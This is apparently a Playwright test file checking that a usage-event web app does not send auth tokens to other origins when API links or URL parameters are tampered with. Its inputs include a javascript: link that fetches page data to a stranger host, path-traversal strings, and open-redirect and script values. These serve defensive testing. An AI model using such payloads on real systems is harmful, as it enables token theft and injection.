// What a person shows a system goes to its own scheme, host, port and path: whatever its links say, whatever an address
// asks for.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { EventDrawer, eventAddress } from '../person/event_drawer';
import { EventGrid } from '../person/event_grid';
import { expectAllSaved } from '../person/saved_state';
import { signIn } from '../person/sign_in';
import { expect, test } from '../stand/desk_test';
import { Front } from '../stand/front';

const BATCH = 'UB-2026-10-TEL';
const UNDER = { demo: true, oracle: { base: '/one' }, logiSense: { base: '/two' }, cloudFoundry: { base: '/three' } };

test.use({ stock: { journey: 'tokens stay at home', events: 2000, connections: UNDER } });

/** Somebody else's server, which counts what reaches it. */
async function stranger() {
  const reached: string[] = [];
  const server = http.createServer((request, answer) => {
    reached.push(`${request.url} ${request.headers.authorization ?? ''}`);
    answer.writeHead(200, { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' }).end('{}');
  });
  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready));
  const { port } = server.address() as AddressInfo;
  return { host: `127.0.0.1:${port}`, reached, end: () => new Promise((ended) => server.close(ended)) };
}

/** Each request of the page that carries what a person showed, or goes to another origin. */
function shown(page: Page): string[] {
  const all: string[] = [];
  page.on('request', (request) => {
    const at = new URL(request.url());
    if (request.headers().authorization) all.push(at.pathname.split('/').slice(0, 3).join('/'));
    if (/^https?:/.test(at.protocol) && at.origin !== new URL(page.url()).origin) all.push(at.href);
  });
  return all;
}

/** Every link that an answer holds is led elsewhere. */
function bent(body: string, to: string): string {
  const lead = (value: unknown): unknown => {
    if (Array.isArray(value)) return value.map(lead);
    if (value === null || typeof value !== 'object') return value;
    return Object.fromEntries(Object.entries(value).map(([name, own]) => [name, name === 'href' && typeof own === 'string' ? to.replace('PATH', own.replace(/^https?:\/\/[^/]+/, '')) : lead(own)]));
  };
  return JSON.stringify(lead(JSON.parse(body)));
}

for (const [what, to] of [
  ['another host', 'http://HOSTPATH'],
  ['another host without a scheme', '//HOSTPATH'],
  ['another host behind a name', 'http://user@HOSTPATH'],
  ['another connection', '/twoPATH'],
  ['steps that lead up', '/crmRestApi/resources/11.13.18.05/subscriptionUsageEvents/..\\..\\..\\..\\..\\two\\x'],
  ['a script', 'javascript:fetch("http://HOST/?" + document.title)//PATH'],
] as const) {
  test(`links that lead to ${what} are not followed, by no system`, async ({ openBrowser, server, records, watch: _ }) => {
    const event = (await records.eventsInError(BATCH))[0];
    const other = await stranger();
    const front = await Front.before(server);
    for (const base of ['/one', '/two', '/three']) front.under.set(base, server);
    const page = await openBrowser(front.address);
    const sent = shown(page);
    let led = 0;
    await page.route(/\/(one|two|three)\//, async (route) => {
      if (route.request().method() === 'POST') return route.fallback();
      const response = await route.fetch();
      const body = await response.text();
      if (!body.includes('"href"')) return route.fulfill({ response, body });
      led += 1;
      await route.fulfill({ response, body: bent(body, to.replace('HOST', other.host)) });
    });
    // Oracle: lists, a record, a write, and the list after it.
    await signIn(page, 'editor');
    for (const [screen, dialog] of [['Service usage', 'Cloud Foundry'], ['Buckets', 'LogiSense']] as const) {
      await page.getByRole('link', { name: screen, exact: true }).click();
      const session = page.getByRole('dialog', { name: `Your session at ${dialog} has ended` });
      await session.getByLabel('Password').fill('editor');
      await session.getByRole('button', { name: 'Sign in', exact: true }).click();
      await expect(session).toBeHidden();
      await expect(page.getByRole('grid').getByRole('gridcell').first()).toHaveText(/\w/);
    }
    await page.getByRole('link', { name: 'Service usage', exact: true }).click();
    await expect(page.getByText('All loaded, as of')).toBeVisible();
    await page.getByRole('link', { name: 'Batches', exact: true }).click();
    await page.getByRole('grid', { name: 'Batches' }).getByRole('link', { name: BATCH, exact: true }).click();
    const grid = new EventGrid(page);
    await expect(grid.rowAt(1).getByRole('gridcell').first()).toHaveText(/\w/);
    if (what !== 'steps that lead up') {
      await grid.filterTo('Error');
      await grid.correct(event.EventNumber, 'Service', `+49 ${what}`);
      await expectAllSaved(page);
      expect((await records.event(event.EventNumber)).ServiceId).toBe(`+49 ${what}`);
    }
    expect(led).toBeGreaterThan(3);
    expect(new Set(sent)).toEqual(new Set(['/one/crmRestApi', '/three/v3', '/two/ResourceServer']));
    expect(other.reached).toEqual([]);
    await page.unrouteAll({ behavior: 'ignoreErrors' });
    await front.end();
    await other.end();
  });
}

test('no address names another file of connections, nor another place to go back to', async ({ openBrowser, server }) => {
  const other = await stranger();
  await server.writeConnections(JSON.stringify({ demo: true, oracle: {}, logiSense: {}, cloudFoundry: {} }));
  const page = await openBrowser('/');
  const sent = shown(page);
  const away = encodeURIComponent(`http://${other.host}/x`);
  for (const address of [
    `/?connections=${away}`,
    `/events?connections=//${other.host}/connections.json`,
    `/events?back=//${other.host}&return=${away}&redirect=javascript:alert(1)&next=${away}`,
    `/batches?returnTo=javascript:alert(1)#//${other.host}`,
    `//${other.host}/events`,
    `/\\${other.host}/events?status=ORA_ERROR`,
    `/javascript:alert(1)`,
  ]) {
    await page.goto(new URL(page.url()).origin + address);
    await signIn(page, 'viewer');
    const links = await page.locator('a[href]').evaluateAll((all) => all.map((link) => new URL(link.getAttribute('href')!, document.baseURI).href));
    expect(links.filter((link) => new URL(link).origin !== new URL(page.url()).origin), address).toEqual([]);
    expect(new URL(page.url()).origin).toBe(server.address);
  }
  expect(sent.filter((one) => !/^\/(crmRestApi|v3|ResourceServer|userinfo)/.test(one))).toEqual([]);
  expect(other.reached).toEqual([]);
  await server.writeConnections(JSON.stringify(UNDER));
});
